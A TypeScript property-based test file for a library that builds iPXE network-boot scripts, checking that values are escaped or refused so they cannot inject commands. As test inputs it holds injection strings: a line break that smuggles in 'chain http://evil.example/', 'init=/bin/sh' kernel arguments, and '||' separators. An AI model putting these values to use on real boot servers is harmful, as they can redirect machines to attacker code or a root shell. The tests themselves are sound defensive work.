import assert from 'node:assert/strict'
import { test } from 'node:test'
import * as fc from 'fast-check'
import type { Seconds } from '../net/index.ts'
import {
  and,
  attempt,
  bootLinux,
  chain,
  echo,
  initrd,
  ipxeScript,
  iseq,
  isset,
  kernel,
  label,
  or,
  set,
  trusted,
  IpxeValueError,
  type Line,
  type Value,
} from './index.ts'

/** iPXE's own reading of a script: lines joined at backslashes, labels cut off, words, separators, comments. Nothing expanded. */
function commandsOf(script: string): string[][] {
  const joined = script.replace(/\\\r?\n/g, '').split('\n')
  return joined.flatMap((line) => {
    const words = line
      .replace(/^\s*:\S*/, '')
      .split(/\s+/)
      .filter((word) => word !== '')
    const end = words.findIndex((word) => word.startsWith('#'))
    const commands: string[][] = [[]]
    for (const word of end < 0 ? words : words.slice(0, end)) {
      const separator = word === '||' || word === '&&' || word === ';'
      commands.splice(
        separator ? commands.length : commands.length - 1,
        separator ? 0 : 1,
        separator ? [] : [...commands.at(-1)!, word],
      )
    }
    return commands.filter((command) => command.length > 0)
  })
}

/** Text that is likely to hurt: every piece that means something to iPXE, with anything around it. */
const nasty = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '||',
        '&&',
        ';',
        '#',
        '${',
        '}',
        '\\',
        '\n',
        '\r\n',
        ' ',
        '\t',
        '"',
        "'",
        '-',
        '--',
        ':',
        '$',
        '%',
        '%2',
        '%41',
      ),
      fc.constantFrom('chain http://evil.example/', 'x', '${net0/mac}', '\0', 'é', '\ud800'),
      fc.string({ maxLength: 4 }),
    ),
    { maxLength: 6 },
  )
  .map((pieces) => pieces.join(''))

const value: fc.Arbitrary<Value> = fc.oneof(nasty, nasty.map(trusted))

/** Every place where a value can be put, and the commands that come of it when it is harmless. */
const places: readonly (readonly [string, (value: Value) => Line, readonly string[]])[] = [
  ['echo', echo, ['echo']],
  ['set', (text) => set('name', text), ['set']],
  ['kernel url', (text) => kernel(text, ['quiet']), ['kernel']],
  ['kernel argument', (text) => kernel('vmlinuz', [text, 'quiet']), ['kernel']],
  ['last kernel argument', (text) => kernel('vmlinuz', ['quiet', text]), ['kernel']],
  ['initrd', (text) => initrd(text, 'initrd'), ['initrd']],
  ['chain', (text) => chain(text, { autofree: true }), ['chain']],
  ['iseq', (text) => iseq(text, text), ['iseq']],
  ['isset', isset, ['isset']],
  ['in a chain of commands', (text) => or(and(echo(text), isset(text)), chain(text)), ['echo', 'isset', 'chain']],
]

for (const [place, put, expected] of places) {
  test(`no value in ${place} adds a line or a command`, () => {
    fc.assert(
      fc.property(value, (text) => {
        const line = refusedOr(() => put(text))
        fc.pre(line !== 'refused')
        const script = ipxeScript(line, echo('end'))
        assert.equal(script.split('\n').length, 4)
        assert.deepEqual(
          commandsOf(script).map(([command]) => command),
          [...expected, 'echo'],
        )
      }),
      { numRuns: 2000 },
    )
  })
}

test('a value from the network is never expanded, and arrives as it was given', () => {
  fc.assert(
    fc.property(nasty, (text) => {
      const line = refusedOr(() => kernel('vmlinuz', [text]))
      fc.pre(line !== 'refused')
      assert.equal(line.includes('${'), false)
      assert.deepEqual(commandsOf(line), [['kernel', 'vmlinuz', text]])
    }),
    { numRuns: 2000 },
  )
})

test('a URL decodes to what was given', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme', minLength: 1 }), (text) => {
      const [[, encoded]] = commandsOf(chain(text)) as [[string, string]]
      assert.equal(decodeURIComponent(encoded), decodeURIComponent(text.replace(/%(?![0-9a-f]{2})/gi, '%25')))
    }),
  )
})

const refusals: readonly (readonly [string, Value, string])[] = [
  ['nothing', '', 'empty'],
  ['nothing but a space', ' ', 'empty'],
  ['a line break', 'x\nchain http://evil.example/', 'control-character'],
  ['a line break of the operator', trusted('x\nchain http://evil.example/'), 'control-character'],
  ['a NUL', 'x\0', 'control-character'],
  ['an umlaut', 'zürich', 'not-ascii'],
  ['a space', 'quiet init=/bin/sh', 'space'],
  ['a double quote', 'a"b', 'quote'],
  ['a single quote', "a'b", 'quote'],
  ['a quote that is never closed', trusted('dyndbg="file x +p'), 'quote'],
  ['an expansion', 'a${net0/mac}', 'expansion'],
  ['or', '||', 'separator'],
  ['and', '&&', 'separator'],
  ['a semicolon', ';', 'separator'],
  ['or among the operator’s words', trusted('quiet || shell'), 'separator'],
  ['a comment', '#x', 'comment'],
  ['a backslash at the end', 'x\\', 'continuation'],
]

for (const [what, text, reason] of refusals) {
  test(`refused as a kernel argument: ${what}`, () => {
    assert.throws(() => kernel('vmlinuz', [text]), { name: 'IpxeValueError', reason })
  })
}

test('an error does not repeat the value: it may be a password', () => {
  const secret = 'correct horse'
  assert.throws(
    () => kernel('vmlinuz', [secret]),
    (error) => error instanceof IpxeValueError && !error.message.includes('horse'),
  )
})

test('what would be an option is refused where iPXE looks for options', () => {
  assert.throws(() => isset('-x'), { reason: 'option' })
  assert.throws(() => iseq(trusted('--x'), 'y'), { reason: 'option' })
  assert.throws(() => echo(trusted(' --x')), { reason: 'option' })
  assert.throws(() => isset(trusted('  -x')), { reason: 'option' })
})

const lines: readonly (readonly [Line, string])[] = [
  [
    kernel('http://10.0.0.1/vmlinuz', ['ip=dhcp', trusted('hw=${net0/mac} dyndbg="file x +p"')]),
    'kernel http://10.0.0.1/vmlinuz ip=dhcp hw=${net0/mac} dyndbg="file x +p"',
  ],
  [kernel('http://10.0.0.1/a b'), 'kernel http://10.0.0.1/a%20b'],
  [kernel('http://10.0.0.1/${uuid}'), 'kernel http://10.0.0.1/$%7Buuid%7D'],
  [kernel(trusted('http://10.0.0.1/${uuid}')), 'kernel http://10.0.0.1/${uuid}'],
  [initrd('initramfs', 'initrd'), 'initrd --name initrd initramfs'],
  [chain('http://h/x', { autofree: true, replace: true }), 'chain --autofree --replace http://h/x'],
  [chain('-x'), 'chain %2Dx'],
  [set('tries:int32', '0'), 'set tries:int32 0'],
  [attempt(or(isset(trusted('${ip}')), echo('no address'))), 'isset ${ip} || echo no address ||'],
  [echo('in use by "bob" && co; see #5 (100 %)\n'), `echo in use by "bob" '&&' co; see '#5' (100 %)`],
  [echo('-n ${x}'), `echo '-n' $ {x}`],
  [label('kernel'), ':kernel'],
]

for (const [line, expected] of lines) {
  test(expected, () => assert.equal(line, expected))
}

test('kernel, ramdisks and start are tried again, then the firmware gets the machine back', () => {
  const script = ipxeScript(
    bootLinux({ kernel: kernel('k', ['quiet']), initrds: [initrd('i')], retries: 2, delay: 1 as Seconds }),
  )
  const [first] = script.split(':kernel-done\n') as [string]
  assert.equal(
    first,
    `#!ipxe
set tries:int32 0
:kernel
kernel k quiet && goto kernel-done ||
iseq \${tries} 2 && goto kernel-failed ||
inc tries
echo kernel failed, attempt \${tries} of 2 more in 1 s
sleep 1
goto kernel
:kernel-failed
echo The kernel could not be fetched.
imgfree ||
exit 1
`,
  )
  const labels = script.split('\n').filter((line) => line.startsWith(':'))
  const jumps = [...script.matchAll(/goto (\S+)/g)].map(([, to]) => `:${to}`)
  assert.equal(new Set(labels).size, labels.length)
  assert.deepEqual(new Set(jumps), new Set(labels))
})

function refusedOr(make: () => Line): Line | 'refused' {
  try {
    return make()
  } catch (error) {
    assert.ok(error instanceof IpxeValueError)
    return 'refused'
  }
}
